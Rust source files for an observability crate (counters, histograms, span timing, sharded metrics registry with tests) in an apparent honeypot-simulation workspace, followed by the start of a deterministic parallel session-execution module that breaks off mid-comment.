//! non-deterministic. The zero clock makes every duration read as 0 ns so
//! a manifest produced under it is byte-stable and can be golden-pinned.

use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Instant;

static ZERO_CLOCK: AtomicBool = AtomicBool::new(false);

/// Switch the zero clock on or off (test use; off by default).
pub fn set_zero_clock(on: bool) {
    ZERO_CLOCK.store(on, Ordering::Relaxed);
}

/// Is the zero clock active?
pub fn zero_clock() -> bool {
    ZERO_CLOCK.load(Ordering::Relaxed)
}

/// Nanoseconds of wall clock elapsed since `start` (0 under the zero
/// clock). Saturates at `u64::MAX` (~584 years).
pub fn wall_ns_since(start: Instant) -> u64 {
    if zero_clock() {
        return 0;
    }
    u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX)
}

/// Cumulative CPU time of the calling thread in nanoseconds.
///
/// Linux exposes this as the first field of `/proc/thread-self/schedstat`
/// (time spent on-CPU, in ns). Elsewhere — or when the file is missing,
/// e.g. under seccomp — this returns 0 and span `cpu_ns` stays 0; the
/// manifest schema documents the field as best-effort. Always 0 under the
/// zero clock.
pub fn thread_cpu_ns() -> u64 {
    if zero_clock() {
        return 0;
    }
    #[cfg(target_os = "linux")]
    {
        if let Ok(s) = std::fs::read_to_string("/proc/thread-self/schedstat") {
            if let Some(first) = s.split_whitespace().next() {
                if let Ok(ns) = first.parse::<u64>() {
                    return ns;
                }
            }
        }
    }
    0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn zero_clock_zeroes_wall_time() {
        set_zero_clock(true);
        let t = Instant::now();
        std::thread::sleep(std::time::Duration::from_millis(1));
        assert_eq!(wall_ns_since(t), 0);
        assert_eq!(thread_cpu_ns(), 0);
        set_zero_clock(false);
        assert!(wall_ns_since(t) > 0);
    }
}
