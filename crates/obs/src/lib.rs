//! # hf-obs — zero-dependency observability for the honeyfarm pipeline
//!
//! Counters, gauges, log2 histograms, and span timing for every crate in
//! the offline workspace, plus the versioned end-of-run manifest
//! (`metrics.json` + `spans.tsv`). Three design rules, in priority order:
//!
//! 1. **Recording never perturbs the pipeline.** Instrumentation only
//!    observes: no RNG, no ordering influence, no feedback into any
//!    simulated or analyzed value. `tests/obs_invariance.rs` proves that a
//!    metrics-on run produces bit-identical simulation output, snapshots,
//!    and reports to a metrics-off run at 1, 2, and 8 threads.
//! 2. **Every aggregate is an associative, commutative merge** (the same
//!    discipline as `Aggregates::merge`): thread-local buffers flush into
//!    a sharded registry in any order with identical results, so counters
//!    derived from deterministic work are thread-count invariant.
//! 3. **Off means off.** Disabled at runtime (the default), every
//!    recording call is one relaxed atomic load; compiled with the `noop`
//!    feature, calls route through [`NoopRecorder`] and vanish entirely.
//!
//! ## Recording
//!
//! ```
//! hf_obs::enable();
//! hf_obs::counter!("demo.events", 3);
//! hf_obs::gauge!("demo.threads", 8);
//! hf_obs::observe!("demo.batch_size", 1024);
//! {
//!     let _g = hf_obs::span!("demo.phase");
//!     // … timed work …
//! }
//! hf_obs::flush(); // per thread, before the thread ends
//! let manifest = hf_obs::manifest("demo");
//! assert_eq!(manifest.counters["demo.events"], 3);
//! # hf_obs::disable();
//! # hf_obs::reset();
//! ```
//!
//! Worker threads buffer locally and must [`flush`] before they exit
//! (the instrumented fan-out sites in `hf-sim` and `hf-core` do); the
//! thread calling [`snapshot`]/[`manifest`] flushes itself automatically.

#![warn(missing_docs)]

pub mod clock;
pub mod manifest;
pub mod metrics;
pub mod span;

use std::cell::RefCell;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::OnceLock;

pub use clock::{set_zero_clock, zero_clock};
pub use manifest::{
    ManifestError, RunManifest, METRICS_FILE, SCHEMA_NAME, SCHEMA_VERSION, SPANS_FILE,
};
pub use metrics::{
    Histogram, LocalBuf, MetricsRegistry, MetricsSnapshot, Name, SpanStats, N_BUCKETS,
};
pub use span::SpanGuard;

// ------------------------------------------------------------- recorders --

/// A recording backend. Two implementations exist: [`ThreadLocalRecorder`]
/// (the real one) and [`NoopRecorder`] (selected by the `noop` cargo
/// feature, compiling every call to nothing). Dispatch is static — the
/// active recorder is a `const`, so the disabled path has no vtable and
/// the noop path optimizes out.
pub trait Recorder {
    /// Add `n` to the named counter.
    fn counter_add(&self, name: Name, n: u64);
    /// Raise the named high-water-mark gauge to at least `v`.
    fn gauge_set(&self, name: Name, v: i64);
    /// Record one histogram sample.
    fn observe(&self, name: Name, v: u64);
    /// Open a span guard.
    fn span(&self, name: Name) -> SpanGuard;
    /// Drain the calling thread's buffer into the global registry.
    fn flush(&self);
}

/// The compiled-out backend: every method is an empty inline function.
pub struct NoopRecorder;

impl Recorder for NoopRecorder {
    #[inline(always)]
    fn counter_add(&self, _name: Name, _n: u64) {}
    #[inline(always)]
    fn gauge_set(&self, _name: Name, _v: i64) {}
    #[inline(always)]
    fn observe(&self, _name: Name, _v: u64) {}
    #[inline(always)]
    fn span(&self, _name: Name) -> SpanGuard {
        SpanGuard::inert()
    }
    #[inline(always)]
    fn flush(&self) {}
}

/// The real backend: thread-local buffering, explicit flush into the
/// sharded global [`MetricsRegistry`].
pub struct ThreadLocalRecorder;

impl Recorder for ThreadLocalRecorder {
    fn counter_add(&self, name: Name, n: u64) {
        if enabled() {
            LOCAL.with(|l| l.borrow_mut().counter_add(name, n));
        }
    }

    fn gauge_set(&self, name: Name, v: i64) {
        if enabled() {
            LOCAL.with(|l| l.borrow_mut().gauge_set(name, v));
        }
    }

    fn observe(&self, name: Name, v: u64) {
        if enabled() {
            LOCAL.with(|l| l.borrow_mut().observe(name, v));
        }
    }

    fn span(&self, name: Name) -> SpanGuard {
        if enabled() {
            SpanGuard::begin(name)
        } else {
            SpanGuard::inert()
        }
    }

    fn flush(&self) {
        let buf = LOCAL.with(|l| std::mem::take(&mut *l.borrow_mut()));
        if !buf.is_empty() {
            registry().absorb(buf);
        }
    }
}

#[cfg(not(feature = "noop"))]
const RECORDER: ThreadLocalRecorder = ThreadLocalRecorder;
#[cfg(feature = "noop")]
const RECORDER: NoopRecorder = NoopRecorder;

// ---------------------------------------------------------- global state --

static ENABLED: AtomicBool = AtomicBool::new(false);
static REGISTRY: OnceLock<MetricsRegistry> = OnceLock::new();

thread_local! {
    static LOCAL: RefCell<LocalBuf> = RefCell::new(LocalBuf::default());
    static SPAN_STACK: RefCell<Vec<Name>> = const { RefCell::new(Vec::new()) };
}

fn registry() -> &'static MetricsRegistry {
    REGISTRY.get_or_init(MetricsRegistry::new)
}

/// Turn recording on (process-wide).
pub fn enable() {
    ENABLED.store(true, Ordering::Relaxed);
}

/// Turn recording off. Already-buffered values stay until [`flush`]ed or
/// [`reset`].
pub fn disable() {
    ENABLED.store(false, Ordering::Relaxed);
}

/// Is recording on? (With the `noop` feature: always false.)
pub fn enabled() -> bool {
    if cfg!(feature = "noop") {
        return false;
    }
    ENABLED.load(Ordering::Relaxed)
}

// --------------------------------------------------------- recording API --

/// Add `n` to the named counter (thread-local until [`flush`]).
pub fn counter_add(name: &'static str, n: u64) {
    RECORDER.counter_add(Name::Borrowed(name), n);
}

/// Raise the named high-water-mark gauge to at least `v`.
pub fn gauge_set(name: &'static str, v: i64) {
    RECORDER.gauge_set(Name::Borrowed(name), v);
}

/// Record one sample into the named log2 histogram.
pub fn observe(name: &'static str, v: u64) {
    RECORDER.observe(Name::Borrowed(name), v);
}

/// Open a span over a static name; timing is recorded when the returned
/// guard drops.
pub fn span(name: &'static str) -> SpanGuard {
    RECORDER.span(Name::Borrowed(name))
}

/// Open a span over a dynamically composed name. The closure only runs
/// when recording is enabled, so the disabled path allocates nothing.
pub fn span_owned_with(name: impl FnOnce() -> String) -> SpanGuard {
    if enabled() {
        RECORDER.span(Name::Owned(name()))
    } else {
        SpanGuard::inert()
    }
}

/// Drain the calling thread's buffer into the global registry. Worker
/// threads call this before exiting; cheap when nothing is buffered.
pub fn flush() {
    RECORDER.flush();
}

/// Current span nesting depth on the calling thread.
pub fn span_depth() -> usize {
    SPAN_STACK.with(|s| s.borrow().len())
}

pub(crate) fn stack_push(name: Name) {
    SPAN_STACK.with(|s| s.borrow_mut().push(name));
}

pub(crate) fn stack_pop(name: &Name) {
    SPAN_STACK.with(|s| {
        let popped = s.borrow_mut().pop();
        debug_assert_eq!(
            popped.as_ref(),
            Some(name),
            "span guards dropped out of nesting order"
        );
    });
}

pub(crate) fn record_span(name: Name, wall_ns: u64, cpu_ns: u64) {
    LOCAL.with(|l| l.borrow_mut().span_record(name, wall_ns, cpu_ns));
}

// ------------------------------------------------------------------- rss --

/// Peak resident set size of this process in kilobytes, read from Linux's
/// `/proc/self/status` `VmHWM` line. `None` off Linux or when the field is
/// absent/unparsable — callers treat RSS accounting as best-effort.
pub fn peak_rss_kb() -> Option<i64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    // "VmHWM:     123456 kB"
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Sample [`peak_rss_kb`] into the `process.peak_rss_kb` high-water-mark
/// gauge (a no-op when recording is disabled or the value is unreadable).
/// The out-of-core fold samples once per day; `hfarm` samples once more
/// before writing the run manifest, so the manifest's gauge reflects the
/// whole process.
pub fn sample_peak_rss() {
    if enabled() {
        if let Some(kb) = peak_rss_kb() {
            gauge!("process.peak_rss_kb", kb);
        }
    }
}

// ------------------------------------------------------------ harvesting --

/// Flush the calling thread, then fold every registry shard into one
/// sorted snapshot.
pub fn snapshot() -> MetricsSnapshot {
    flush();
    registry().snapshot()
}

/// Flush the calling thread and package everything recorded so far as a
/// [`RunManifest`] attributed to `tool`.
pub fn manifest(tool: &str) -> RunManifest {
    RunManifest::from_snapshot(tool, snapshot())
}

/// Clear the global registry and the calling thread's buffer (test use;
/// buffers of other live threads are untouched).
pub fn reset() {
    LOCAL.with(|l| *l.borrow_mut() = LocalBuf::default());
    registry().reset();
}

// ---------------------------------------------------------------- macros --

/// `counter!("name", n)` — add `n` to a counter.
#[macro_export]
macro_rules! counter {
    ($name:expr, $n:expr) => {
        $crate::counter_add($name, $n as u64)
    };
}

/// `gauge!("name", v)` — raise a high-water-mark gauge to at least `v`.
#[macro_export]
macro_rules! gauge {
    ($name:expr, $v:expr) => {
        $crate::gauge_set($name, $v as i64)
    };
}

/// `observe!("name", v)` — record a histogram sample.
#[macro_export]
macro_rules! observe {
    ($name:expr, $v:expr) => {
        $crate::observe($name, $v as u64)
    };
}

/// `span!("phase")` — open a span guard; bind it (`let _g = …`) so it
/// measures until scope exit.
#[macro_export]
macro_rules! span {
    ($name:expr) => {
        $crate::span($name)
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Mutex;

    /// The registry is process-global; unit tests touching it serialize.
    static LOCK: Mutex<()> = Mutex::new(());

    #[test]
    fn disabled_recording_is_dropped() {
        let _g = LOCK.lock().unwrap();
        reset();
        disable();
        counter!("unit.never", 5);
        assert!(snapshot().is_empty());
    }

    #[test]
    fn end_to_end_record_flush_manifest() {
        let _g = LOCK.lock().unwrap();
        reset();
        enable();
        counter!("unit.events", 2);
        counter!("unit.events", 3);
        gauge!("unit.peak", 7);
        observe!("unit.sizes", 100);
        {
            let _s = span!("unit.phase");
            assert_eq!(span_depth(), 1);
        }
        assert_eq!(span_depth(), 0);
        let m = manifest("unit");
        assert_eq!(m.counters["unit.events"], 5);
        assert_eq!(m.gauges["unit.peak"], 7);
        assert_eq!(m.histograms["unit.sizes"].count, 1);
        assert_eq!(m.spans["unit.phase"].count, 1);
        disable();
        reset();
    }

    #[test]
    fn peak_rss_sampling_populates_the_gauge() {
        let _g = LOCK.lock().unwrap();
        reset();
        enable();
        sample_peak_rss();
        let m = manifest("unit");
        disable();
        reset();
        // Best-effort: on Linux the gauge must be present and positive; on
        // other platforms the sampler records nothing.
        match peak_rss_kb() {
            Some(kb) => {
                assert!(kb > 0, "VmHWM should be positive, got {kb}");
                let recorded = m.peak_rss_kb().expect("gauge sampled");
                assert!(recorded > 0);
                // High-water mark: the later read can only be >= the sample.
                assert!(kb >= recorded);
            }
            None => assert!(m.peak_rss_kb().is_none()),
        }
    }

    #[test]
    fn cross_thread_flushes_fold() {
        let _g = LOCK.lock().unwrap();
        reset();
        enable();
        std::thread::scope(|s| {
            for _ in 0..4 {
                s.spawn(|| {
                    counter!("unit.worker_events", 10);
                    flush();
                });
            }
        });
        let m = manifest("unit");
        assert_eq!(m.counters["unit.worker_events"], 40);
        disable();
        reset();
    }
}
