//! The metrics algebra: counters, gauges, log2 histograms, span stats, and
//! the sharded global registry they fold into.
//!
//! Every aggregate here is a commutative monoid under [`merge`]-style
//! combination — the same design discipline as `Aggregates::merge` in
//! `hf-core`. That is what makes the whole subsystem order-insensitive:
//! thread-local buffers can flush in any interleaving, registry shards can
//! be folded in any order, and the final [`MetricsSnapshot`] is identical.
//!
//! * counters: saturating `u64` addition (associative, commutative, id 0);
//! * gauges: `i64` maximum (associative, commutative, id `i64::MIN` — a
//!   gauge reports the high-water mark across all threads that set it);
//! * histograms: elementwise saturating bucket addition plus min/max
//!   combine ([`Histogram::merge`]);
//! * spans: count/total adds plus max combine ([`SpanStats::merge`]).
//!
//! [`merge`]: MetricsSnapshot::merge

use std::borrow::Cow;
use std::collections::{BTreeMap, HashMap};
use std::sync::Mutex;

/// Number of histogram buckets: one for zero plus one per power of two.
pub const N_BUCKETS: usize = 65;

/// A fixed-bucket log2 histogram of `u64` samples.
///
/// Bucket 0 holds exactly the value 0; bucket `k` (1 ≤ k ≤ 64) holds
/// values in `[2^(k-1), 2^k)`. The fixed layout is what makes
/// [`Histogram::merge`] a plain elementwise addition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Histogram {
    /// Samples recorded (saturating).
    pub count: u64,
    /// Sum of all samples (saturating).
    pub sum: u64,
    /// Smallest sample (0 when empty).
    pub min: u64,
    /// Largest sample (0 when empty).
    pub max: u64,
    /// Per-bucket sample counts (saturating).
    pub buckets: [u64; N_BUCKETS],
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram {
            count: 0,
            sum: 0,
            min: 0,
            max: 0,
            buckets: [0; N_BUCKETS],
        }
    }
}

impl Histogram {
    /// The empty histogram (merge identity).
    pub fn new() -> Self {
        Self::default()
    }

    /// Bucket index for a sample: 0 for 0, else `64 - leading_zeros`.
    pub fn bucket_index(value: u64) -> usize {
        if value == 0 {
            0
        } else {
            64 - value.leading_zeros() as usize
        }
    }

    /// Inclusive lower bound of bucket `i` (`2^(i-1)`; 0 for bucket 0).
    pub fn bucket_lo(i: usize) -> u64 {
        if i == 0 {
            0
        } else {
            1u64 << (i - 1)
        }
    }

    /// Record one sample.
    pub fn record(&mut self, value: u64) {
        if self.count == 0 {
            self.min = value;
            self.max = value;
        } else {
            self.min = self.min.min(value);
            self.max = self.max.max(value);
        }
        self.count = self.count.saturating_add(1);
        self.sum = self.sum.saturating_add(value);
        let b = &mut self.buckets[Self::bucket_index(value)];
        *b = b.saturating_add(1);
    }

    /// Has nothing been recorded?
    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Fold `other` in. Associative and commutative: counts, sums, and
    /// buckets add (saturating addition is the bounded-sum monoid), min/max
    /// combine with empty-side identity.
    pub fn merge(&mut self, other: &Histogram) {
        if other.count == 0 {
            return;
        }
        if self.count == 0 {
            self.min = other.min;
            self.max = other.max;
        } else {
            self.min = self.min.min(other.min);
            self.max = self.max.max(other.max);
        }
        self.count = self.count.saturating_add(other.count);
        self.sum = self.sum.saturating_add(other.sum);
        for (a, b) in self.buckets.iter_mut().zip(other.buckets.iter()) {
            *a = a.saturating_add(*b);
        }
    }
}

/// Aggregated timing of one span name: how often it ran and for how long.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct SpanStats {
    /// Completed executions.
    pub count: u64,
    /// Total wall-clock nanoseconds across executions (saturating).
    pub wall_ns: u64,
    /// Total on-CPU nanoseconds across executions (saturating;
    /// best-effort — 0 on platforms without a thread CPU clock).
    pub cpu_ns: u64,
    /// Longest single execution, wall-clock nanoseconds.
    pub max_wall_ns: u64,
}

impl SpanStats {
    /// Record one completed execution.
    pub fn record(&mut self, wall_ns: u64, cpu_ns: u64) {
        self.count = self.count.saturating_add(1);
        self.wall_ns = self.wall_ns.saturating_add(wall_ns);
        self.cpu_ns = self.cpu_ns.saturating_add(cpu_ns);
        self.max_wall_ns = self.max_wall_ns.max(wall_ns);
    }

    /// Fold `other` in (associative, commutative, identity = default).
    pub fn merge(&mut self, other: &SpanStats) {
        self.count = self.count.saturating_add(other.count);
        self.wall_ns = self.wall_ns.saturating_add(other.wall_ns);
        self.cpu_ns = self.cpu_ns.saturating_add(other.cpu_ns);
        self.max_wall_ns = self.max_wall_ns.max(other.max_wall_ns);
    }

    /// Mean wall-clock nanoseconds per execution (0 when empty).
    pub fn mean_wall_ns(&self) -> u64 {
        self.wall_ns.checked_div(self.count).unwrap_or(0)
    }
}

/// Metric names: `&'static str` on the hot recording path, owned only for
/// dynamically composed names (e.g. per-snapshot-section spans).
pub type Name = Cow<'static, str>;

/// A thread-local recording buffer. All recording lands here first; the
/// sharded registry is only touched on [`crate::flush`], so the hot path
/// never takes a lock.
#[derive(Debug, Default)]
pub struct LocalBuf {
    pub(crate) counters: HashMap<Name, u64>,
    pub(crate) gauges: HashMap<Name, i64>,
    pub(crate) histograms: HashMap<Name, Histogram>,
    pub(crate) spans: HashMap<Name, SpanStats>,
}

impl LocalBuf {
    pub(crate) fn counter_add(&mut self, name: Name, n: u64) {
        let c = self.counters.entry(name).or_insert(0);
        *c = c.saturating_add(n);
    }

    pub(crate) fn gauge_set(&mut self, name: Name, v: i64) {
        let g = self.gauges.entry(name).or_insert(i64::MIN);
        *g = (*g).max(v);
    }

    pub(crate) fn observe(&mut self, name: Name, v: u64) {
        self.histograms.entry(name).or_default().record(v);
    }

    pub(crate) fn span_record(&mut self, name: Name, wall_ns: u64, cpu_ns: u64) {
        self.spans.entry(name).or_default().record(wall_ns, cpu_ns);
    }

    pub(crate) fn is_empty(&self) -> bool {
        self.counters.is_empty()
            && self.gauges.is_empty()
            && self.histograms.is_empty()
            && self.spans.is_empty()
    }
}

/// One fully folded, name-sorted view of every metric — what manifests are
/// built from. Also the carrier of the merge algebra the proptest suite
/// exercises.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct MetricsSnapshot {
    /// Monotone event counts.
    pub counters: BTreeMap<String, u64>,
    /// High-water-mark gauges.
    pub gauges: BTreeMap<String, i64>,
    /// Log2 sample histograms.
    pub histograms: BTreeMap<String, Histogram>,
    /// Aggregated span timings.
    pub spans: BTreeMap<String, SpanStats>,
}

impl MetricsSnapshot {
    /// Fold `other` in. Associative and commutative over every section:
    /// counters add (saturating), gauges take the max, histograms and
    /// spans merge elementwise.
    pub fn merge(&mut self, other: &MetricsSnapshot) {
        for (k, v) in &other.counters {
            let c = self.counters.entry(k.clone()).or_insert(0);
            *c = c.saturating_add(*v);
        }
        for (k, v) in &other.gauges {
            let g = self.gauges.entry(k.clone()).or_insert(i64::MIN);
            *g = (*g).max(*v);
        }
        for (k, v) in &other.histograms {
            self.histograms.entry(k.clone()).or_default().merge(v);
        }
        for (k, v) in &other.spans {
            self.spans.entry(k.clone()).or_default().merge(v);
        }
    }

    /// Is every section empty?
    pub fn is_empty(&self) -> bool {
        self.counters.is_empty()
            && self.gauges.is_empty()
            && self.histograms.is_empty()
            && self.spans.is_empty()
    }
}

/// FNV-1a over the metric name — the shard selector.
fn fnv1a(name: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.as_bytes() {
        h ^= *b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Shard count: enough to keep concurrent flushes from serializing, small
/// enough that the snapshot fold is trivial.
const N_SHARDS: usize = 16;

#[derive(Debug, Default)]
struct Shard {
    counters: BTreeMap<String, u64>,
    gauges: BTreeMap<String, i64>,
    histograms: BTreeMap<String, Histogram>,
    spans: BTreeMap<String, SpanStats>,
}

/// The process-wide metrics store. Thread-local [`LocalBuf`]s flush into
/// it; [`MetricsRegistry::snapshot`] folds all shards into one
/// [`MetricsSnapshot`]. Shard assignment is by name hash, so a given
/// metric always lands in the same shard and the fold never double-counts.
#[derive(Debug)]
pub struct MetricsRegistry {
    shards: Vec<Mutex<Shard>>,
}

impl Default for MetricsRegistry {
    fn default() -> Self {
        Self::new()
    }
}

impl MetricsRegistry {
    /// A fresh, empty registry.
    pub fn new() -> Self {
        MetricsRegistry {
            shards: (0..N_SHARDS)
                .map(|_| Mutex::new(Shard::default()))
                .collect(),
        }
    }

    fn shard(&self, name: &str) -> &Mutex<Shard> {
        &self.shards[(fnv1a(name) % N_SHARDS as u64) as usize]
    }

    /// Fold a drained thread-local buffer in. Takes each affected shard's
    /// lock once per metric; buffers are pre-aggregated so this is cheap.
    pub fn absorb(&self, buf: LocalBuf) {
        for (name, v) in buf.counters {
            let mut s = self.shard(&name).lock().expect("metrics shard poisoned");
            let c = s.counters.entry(name.into_owned()).or_insert(0);
            *c = c.saturating_add(v);
        }
        for (name, v) in buf.gauges {
            let mut s = self.shard(&name).lock().expect("metrics shard poisoned");
            let g = s.gauges.entry(name.into_owned()).or_insert(i64::MIN);
            *g = (*g).max(v);
        }
        for (name, h) in buf.histograms {
            let mut s = self.shard(&name).lock().expect("metrics shard poisoned");
            s.histograms.entry(name.into_owned()).or_default().merge(&h);
        }
        for (name, sp) in buf.spans {
            let mut s = self.shard(&name).lock().expect("metrics shard poisoned");
            s.spans.entry(name.into_owned()).or_default().merge(&sp);
        }
    }

    /// Fold every shard into one sorted snapshot. Shards partition names,
    /// so the fold is a disjoint union and its order is irrelevant.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let mut out = MetricsSnapshot::default();
        for shard in &self.shards {
            let s = shard.lock().expect("metrics shard poisoned");
            for (k, v) in &s.counters {
                let c = out.counters.entry(k.clone()).or_insert(0);
                *c = c.saturating_add(*v);
            }
            for (k, v) in &s.gauges {
                let g = out.gauges.entry(k.clone()).or_insert(i64::MIN);
                *g = (*g).max(*v);
            }
            for (k, v) in &s.histograms {
                out.histograms.entry(k.clone()).or_default().merge(v);
            }
            for (k, v) in &s.spans {
                out.spans.entry(k.clone()).or_default().merge(v);
            }
        }
        out
    }

    /// Clear every shard (test use).
    pub fn reset(&self) {
        for shard in &self.shards {
            let mut s = shard.lock().expect("metrics shard poisoned");
            *s = Shard::default();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_boundaries() {
        assert_eq!(Histogram::bucket_index(0), 0);
        assert_eq!(Histogram::bucket_index(1), 1);
        assert_eq!(Histogram::bucket_index(2), 2);
        assert_eq!(Histogram::bucket_index(3), 2);
        assert_eq!(Histogram::bucket_index(4), 3);
        assert_eq!(Histogram::bucket_index(u64::MAX), 64);
        for i in 0..N_BUCKETS {
            assert_eq!(Histogram::bucket_index(Histogram::bucket_lo(i)), i);
        }
    }

    #[test]
    fn histogram_record_and_merge() {
        let mut a = Histogram::new();
        a.record(0);
        a.record(5);
        let mut b = Histogram::new();
        b.record(1000);
        a.merge(&b);
        assert_eq!(a.count, 3);
        assert_eq!(a.sum, 1005);
        assert_eq!(a.min, 0);
        assert_eq!(a.max, 1000);
        assert_eq!(a.buckets.iter().sum::<u64>(), 3);
        // Merging an empty histogram is the identity.
        let before = a.clone();
        a.merge(&Histogram::new());
        assert_eq!(a, before);
    }

    #[test]
    fn registry_absorbs_and_folds() {
        let reg = MetricsRegistry::new();
        let mut buf = LocalBuf::default();
        buf.counter_add(Cow::Borrowed("a"), 2);
        buf.counter_add(Cow::Borrowed("a"), 3);
        buf.gauge_set(Cow::Borrowed("g"), 7);
        buf.observe(Cow::Borrowed("h"), 42);
        buf.span_record(Cow::Borrowed("s"), 10, 5);
        reg.absorb(buf);
        let mut buf2 = LocalBuf::default();
        buf2.counter_add(Cow::Borrowed("a"), 1);
        buf2.gauge_set(Cow::Borrowed("g"), 3);
        reg.absorb(buf2);
        let snap = reg.snapshot();
        assert_eq!(snap.counters["a"], 6);
        assert_eq!(snap.gauges["g"], 7);
        assert_eq!(snap.histograms["h"].count, 1);
        assert_eq!(snap.spans["s"].count, 1);
        reg.reset();
        assert!(reg.snapshot().is_empty());
    }

    #[test]
    fn snapshot_merge_is_commutative_here() {
        let mut a = MetricsSnapshot::default();
        a.counters.insert("x".into(), u64::MAX - 1);
        let mut b = MetricsSnapshot::default();
        b.counters.insert("x".into(), 5);
        let mut ab = a.clone();
        ab.merge(&b);
        let mut ba = b.clone();
        ba.merge(&a);
        assert_eq!(ab, ba);
        assert_eq!(ab.counters["x"], u64::MAX, "counter addition saturates");
    }
}
