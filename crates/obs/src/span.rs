//! Span timing: RAII guards measuring wall/CPU time of a named phase.
//!
//! A [`SpanGuard`] pushes its name on a thread-local stack at creation and
//! records a [`crate::metrics::SpanStats`] sample when dropped. The stack
//! exists purely for observability hygiene: [`crate::span_depth`] lets
//! tests prove that arbitrary (lexically scoped) nesting always balances
//! back to zero, and a debug assertion catches out-of-order drops early.
//!
//! Guards are inert when recording is disabled — creating one then is two
//! relaxed atomic loads and no allocation.

use std::time::Instant;

use crate::metrics::Name;

/// RAII timer for one execution of a named phase. Create with
/// [`crate::span`], [`crate::span_owned_with`], or the [`crate::span!`]
/// macro; the sample is recorded on drop.
#[must_use = "a span guard measures until it is dropped; binding it to _ drops immediately"]
#[derive(Debug)]
pub struct SpanGuard {
    /// `None` when recording was disabled at creation (inert guard).
    name: Option<Name>,
    start: Instant,
    cpu_start: u64,
}

impl SpanGuard {
    /// An inert guard that records nothing on drop.
    pub(crate) fn inert() -> SpanGuard {
        SpanGuard {
            name: None,
            start: Instant::now(),
            cpu_start: 0,
        }
    }

    pub(crate) fn begin(name: Name) -> SpanGuard {
        crate::stack_push(name.clone());
        SpanGuard {
            start: Instant::now(),
            cpu_start: crate::clock::thread_cpu_ns(),
            name: Some(name),
        }
    }

    /// Is this guard actually measuring?
    pub fn is_recording(&self) -> bool {
        self.name.is_some()
    }
}

impl Drop for SpanGuard {
    fn drop(&mut self) {
        let Some(name) = self.name.take() else {
            return;
        };
        let wall = crate::clock::wall_ns_since(self.start);
        let cpu = crate::clock::thread_cpu_ns().saturating_sub(self.cpu_start);
        crate::stack_pop(&name);
        crate::record_span(name, wall, cpu);
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn inert_guard_records_nothing() {
        // Disabled by default: the guard must be inert and depth untouched.
        assert!(!crate::enabled());
        let g = crate::span("never");
        assert!(!g.is_recording());
        assert_eq!(crate::span_depth(), 0);
    }
}
