//! Deterministic parallel day execution.
//!
//! The simulation's unit of work is one planned session: given the immutable
//! [`ExecCtx`] and a [`SessionPlan`], `execute_plan*` derives everything else
//! from the plan's own seed. Sessions within a day therefore have no data
//! dependencies on each other — the only cross-session state is *recording*
//! (the collector's ingest order and the tag database's first-wins rule),
//! and both are functions of plan order alone.
//!
//! That makes the day loop parallelizable without giving up bit-for-bit
//! reproducibility:
//!
//! 1. `plan_day` returns plans in a total deterministic order (it sorts by a
//!    unique key; see `Ecosystem::plan_day`).
//! 2. The plan slice is split into `threads` *contiguous* chunks. Each worker
//!    executes its chunk in order into a private record vector and a private
//!    [`TagDb`] shard. Workers share nothing mutable — both [`DayMode`]s
//!    carry day state that was pre-filled serially (pre-parsed scripts or
//!    pre-computed outcomes) and is read immutably.
//! 3. Shards are merged *in chunk order*: record vectors are concatenated
//!    (which reproduces the serial ingest order exactly, because
//!    concatenating in-order chunks of an ordered sequence yields the
//!    sequence), and tag shards are folded with [`TagDb::merge`], whose
//!    keep-existing rule makes "first shard wins" equal "first plan wins".
//!
//! The result: `threads = N` produces byte-identical output to `threads = 1`
//! for every N, and the scheduler's interleaving of workers is invisible.

use std::time::Duration;

use hf_agents::SessionPlan;
use hf_farm::TagDb;
use hf_honeypot::SessionRecord;

use crate::error::SimError;
use crate::exec::{
    execute_plan_full, execute_plan_prepared, ExecCtx, PreparedScripts, ScriptCache,
};

/// How a day's sessions are executed. Both variants borrow day state that a
/// serial pre-pass filled (and that workers read immutably), so the choice
/// here is purely fidelity-vs-speed:
///
/// * [`DayMode::Full`] drives the real honeypot state machine and shell
///   emulator per session, with scripts pre-parsed once per
///   `(campaign, variant)` by [`PreparedScripts::prepare_day`].
/// * [`DayMode::Cached`] replays pre-computed script outcomes filled by
///   [`ScriptCache::precompute_day`], skipping shell execution entirely.
#[derive(Clone, Copy, Debug)]
pub enum DayMode<'a> {
    /// Full shell emulation over pre-parsed scripts.
    Full(&'a PreparedScripts),
    /// Script-cache replay fast path.
    Cached(&'a ScriptCache),
}

impl DayMode<'_> {
    fn min_shard_plans(&self) -> usize {
        match self {
            DayMode::Full(_) => MIN_SHARD_PLANS,
            DayMode::Cached(_) => MIN_SHARD_PLANS_CACHED,
        }
    }
}

/// Per-day throughput report, passed to the progress callback after each
/// simulated day completes.
#[derive(Debug, Clone)]
pub struct DayStats {
    /// Days completed so far (1-based: the day just finished).
    pub day: u32,
    /// Total days in the study window.
    pub days_total: u32,
    /// Sessions executed on this day.
    pub day_sessions: usize,
    /// Sessions executed since the run started.
    pub total_sessions: usize,
    /// Worker threads used for this day.
    pub threads: usize,
    /// Wall-clock time spent on this day (planning + execution + ingest).
    pub day_wall: Duration,
}

impl DayStats {
    /// This day's throughput in sessions per wall-clock second.
    pub fn sessions_per_sec(&self) -> f64 {
        let secs = self.day_wall.as_secs_f64();
        if secs > 0.0 {
            self.day_sessions as f64 / secs
        } else {
            0.0
        }
    }
}

/// Minimum plans per worker shard (full shell emulation). Below this,
/// thread spawn/join overhead outweighs the work — on short days, 8
/// workers on a few hundred plans ran *slower* than 4 (the old 8-thread
